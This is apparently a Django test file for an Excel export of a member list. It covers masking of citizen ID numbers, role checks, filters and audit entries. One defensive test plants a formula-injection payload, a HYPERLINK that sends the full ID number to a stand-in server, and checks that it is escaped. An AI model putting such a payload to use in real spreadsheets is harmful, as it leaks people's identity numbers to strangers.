"""The Excel export of the member list: masked ID numbers unless a worker asks, filters, the audit line."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from chuxin.audit.models import AuditEntry
from chuxin.members import citizen_id
from chuxin.members.exporting import export_columns
from chuxin.members.models import Member
from chuxin.testing import make_member

URL = reverse("members:export")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def sheet(response) -> list[dict]:
    """The exported rows as {column title: value}."""
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0].values)
    header = list(rows[0])
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def en(client_for):
    def login(user):
        client = client_for(user)
        client.cookies["django_language"] = "en"
        return client

    return login


def test_a_secretary_exports_their_branch_with_masked_numbers(world, en):
    response = en(world.secretary).get(URL)
    rows = sheet(response)
    assert "attachment" in response["Content-Disposition"]
    assert list(rows[0]) == export_columns()
    assert [r["Name"] for r in rows] == ["李四"]  # not 王五, who is in the sibling branch
    assert rows[0]["Citizen ID number"] == world.member.citizen_id_masked
    assert "*" in rows[0]["Citizen ID number"]
    assert rows[0]["Organization code"] == "B1"
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
    assert (entry.actor, entry.changes) == (world.secretary, {"rows": 1, "full_citizen_ids": 0})


def test_a_worker_gets_full_numbers_on_request_and_it_is_audited(world, en):
    rows = sheet(en(world.worker).get(URL + "?full_id=1"))
    by_name = {r["Name"]: r for r in rows}
    assert set(by_name) == {"李四", "王五"}
    for member in (world.member, world.b2_member):
        assert by_name[member.name]["Citizen ID number"] == citizen_id.decrypt(member.citizen_id_encrypted)
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
    assert (entry.actor, entry.changes) == (world.worker, {"rows": 2, "full_citizen_ids": 2})


def test_a_worker_without_the_flag_gets_masked_numbers(world, en):
    rows = sheet(en(world.worker).get(URL))
    assert all("*" in r["Citizen ID number"] for r in rows)


@pytest.mark.parametrize("who", ["secretary", "committee", "viewer"])
def test_full_numbers_are_refused_to_non_workers(world, client_for, who):
    assert client_for(getattr(world, who)).get(URL + "?full_id=1").status_code == 403
    assert not AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).exists()


@pytest.mark.parametrize("who", ["member_user", "stranger"])
def test_people_without_read_access_cannot_export(world, client_for, who):
    assert client_for(getattr(world, who)).get(URL).status_code == 403


def test_filters_apply_to_the_exported_rows(world, en):
    make_member(world.b1, "赵六", category=Member.Category.PROBATIONARY)
    make_member(world.g1, "钱七", category=Member.Category.PROBATIONARY, male=False)
    client = en(world.worker)

    assert sorted(r["Name"] for r in sheet(client.get(URL + "?category=probationary"))) == ["赵六", "钱七"]
    assert [r["Name"] for r in sheet(client.get(URL + f"?organization={world.b2.pk}"))] == ["王五"]
    assert [r["Name"] for r in sheet(client.get(URL + "?q=zl"))] == ["赵六"]
    assert [r["Name"] for r in sheet(client.get(URL + "?category=probationary&q=qq"))] == ["钱七"]


def test_the_export_writes_dates_and_labels_people_can_read(world, en):
    row = sheet(en(world.secretary).get(URL))[0]
    assert row["Gender"] == "male"
    assert row["Category"] == "full member"
    assert row["Date joined"].date() == world.member.joined_on
    assert row["Party organization"] == world.b1.name


def test_a_name_planted_as_a_formula_is_exported_as_text(world, en):
    """A HYPERLINK in the name would send the full ID number in E2 to a stranger's server when the file is opened."""
    planted = '=HYPERLINK("http://x/?"&E2,"x")'
    Member.objects.filter(pk=world.member.pk).update(name=planted, post="@SUM(1+1)", ethnicity="-1+1")

    response = en(world.worker).get(URL + "?full_id=1")

    ws = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert ws.freeze_panes == "A2"
    row = next(r for r in ws.iter_rows(min_row=2) if "HYPERLINK" in str(r[0].value))
    name, ethnicity, post = row[0], row[2], row[9]
    assert name.data_type == "s"
    assert not name.value.startswith("=")
    assert name.value == "'" + planted
    assert (post.data_type, post.value) == ("s", "'@SUM(1+1)")
    assert (ethnicity.data_type, ethnicity.value) == ("s", "'-1+1")
    assert all(cell.data_type != "f" for r in ws.iter_rows() for cell in r)
    assert row[3].is_date and row[3].number_format == "yyyy-mm-dd"
